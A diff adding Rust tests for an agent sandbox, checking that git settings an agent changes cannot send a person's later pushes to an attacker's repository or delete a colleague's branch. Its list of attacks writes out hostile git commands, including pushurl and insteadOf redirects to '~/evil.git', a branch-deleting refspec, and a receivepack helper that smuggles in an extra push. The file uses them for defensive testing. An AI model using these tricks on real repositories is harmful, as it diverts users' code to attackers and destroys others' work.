@@ -1,0 +1,122 @@
+//! Settings of git that lead a person's next push: judged by where it went.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use ipc::confinement::Tier;
+use tests::repository::{repository, shell};
+use tests::{Finished, User, World, tier};
+
+/// A person's remote with a colleague's branch on it, two branches of which one has an upstream, and a repository of the attacker's that
+/// no agent can write.
+const SETUP: &str = "git checkout -q -b main; git init -q --bare -b main ~/hub.git; git init -q --bare ~/evil.git; \
+    git remote add origin ~/hub.git; git push -q origin main:colleague; git push -q -u origin main; git branch second; \
+    git config user.email me@example.org";
+
+/// The person's work after the agent's.
+const LATER: &str = "git commit -q --allow-empty -m later; git push -q; git push -q origin; git push -q origin main; \
+    git checkout -q second; git push -q; git push -q -u origin HEAD; true";
+
+/// Each leads that work elsewhere, or has it delete the colleague's branch.
+const ACTS: &[(&str, &str)] = &[
+    ("address", "git remote set-url origin ~/evil.git"),
+    ("address for pushes", "git config remote.origin.pushurl ~/evil.git"),
+    ("another address", "git remote set-url --add origin ~/evil.git"),
+    ("rewritten", "git config url.$HOME/evil.git.insteadOf $HOME/hub.git"),
+    ("rewritten for pushes", "git config url.$HOME/evil.git.pushInsteadOf $HOME/hub.git"),
+    ("branch", "git remote add evil ~/evil.git; git config branch.main.remote evil"),
+    ("branch for pushes", "git config branch.main.pushRemote ~/evil.git"),
+    (
+        "branch without upstream",
+        "git config branch.second.remote ~/evil.git; git config branch.second.merge refs/heads/second",
+    ),
+    ("default", "git config remote.pushDefault ~/evil.git; git config push.default current"),
+    ("made anew", "git remote remove origin; git remote add origin ~/evil.git"),
+    ("renamed", "git remote rename origin old; git remote add origin ~/evil.git"),
+    (
+        "for this work tree",
+        "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl ~/evil.git",
+    ),
+    ("case", "git config REMOTE.origin.PushURL ~/evil.git"),
+    ("mirror", "git config remote.origin.mirror true; git update-ref -d refs/remotes/origin/colleague"),
+    ("refspec", "git config remote.origin.push :refs/heads/colleague"),
+    (
+        "helper",
+        "printf '#!/bin/sh\\ngit push -q ~/evil.git HEAD:x\\n' > h.sh; chmod +x h.sh; git config remote.origin.receivepack \"$PWD/h.sh;git-receive-pack\"",
+    ),
+];
+
+fn people(user: User) -> World {
+    let world = repository(user);
+    shell(&world, SETUP).expect(0);
+    world
+}
+
+fn sandbox(world: &World, tier: Tier, command: &str) -> Finished {
+    Finished::of(world.sandbox(tier, &[], "bash").args(["-c", command]))
+}
+
+/// True if the attacker has something of the person's, or the colleague has lost something.
+fn is_lost(world: &World) -> bool {
+    shell(world, LATER);
+    let look =
+        "git -C ~/evil.git for-each-ref | grep -q . || ! git -C ~/hub.git rev-parse -q --verify colleague";
+    shell(world, look).code == 0
+}
+
+#[test]
+fn a_push_goes_where_the_person_said() {
+    for (number, (name, act)) in ACTS.iter().enumerate() {
+        let control = people(User::Myself);
+        shell(&control, act);
+        assert!(is_lost(&control), "{name}: the attack does nothing unconfined");
+        // One everywhere; in the full tier git's configuration is mounted, and the rest would show the same.
+        let first = tier::everywhere().into_iter().filter(|_| number == 0);
+        for (user, tier) in first.chain([(User::Myself, Tier::Floor)]) {
+            let world = people(user);
+            let done = sandbox(&world, tier, act);
+            assert!(
+                !is_lost(&world),
+                "{name}, {tier}, {user:?}: {}\n{}",
+                done.stderr,
+                world.read(".git/config")
+            );
+            let config = world.read(".git/config");
+            assert!(config.contains("/hub.git\n"), "{name}, {tier}: {config}");
+        }
+    }
+}
+
+/// What is new beside it may come, and is told.
+#[test]
+fn new_remotes_and_branches_come_and_are_told() {
+    let world = people(User::Myself);
+    let act = "git remote add fork https://example.org/fork.git; git checkout -q -b new; git config branch.new.remote fork; \
+        git config branch.new.merge refs/heads/new; git config user.name agent";
+    let done = sandbox(&world, Tier::Floor, act);
+    let config = world.read(".git/config");
+    for kept in
+        ["url = https://example.org/fork.git", "remote = fork", "merge = refs/heads/new", "name = agent"]
+    {
+        assert!(config.contains(kept), "{kept}: {config}");
+    }
+    let told = "note: new in .git/config, for your next push, fetch or commit: user.name = agent, \
+        remote.fork.url = https://example.org/fork.git, remote.fork.fetch = +refs/heads/*:refs/remotes/fork/*, \
+        branch.new.remote = fork, branch.new.merge = refs/heads/new";
+    assert!(done.stderr.contains(told), "{}", done.stderr);
+    // Who commits is the person's, where the person said so.
+    let done = sandbox(&world, Tier::Floor, "git config user.email agent@example.org");
+    let config = world.read(".git/config");
+    assert!(config.contains("email = me@example.org") && !config.contains("agent@"), "{config}");
+    assert!(done.stderr.contains("changed and restored: .git/config (user.email"), "{}", done.stderr);
+}
+
+/// A clone, and a module, have settings of their own, though their remotes have the same names.
+#[test]
+fn other_repositories_have_remotes_of_their_own() {
+    let world = people(User::Myself);
+    let act =
+        "git clone -q ~/hub.git sub; git -c protocol.file.allow=always submodule -q add ~/hub.git module";
+    let done = sandbox(&world, Tier::Floor, act).expect(0);
+    assert!(!done.stderr.contains("restored"), "{}", done.stderr);
+    assert_eq!(shell(&world, "git -C sub fetch -q && git -C module fetch -q").code, 0, "{}", done.stderr);
+}
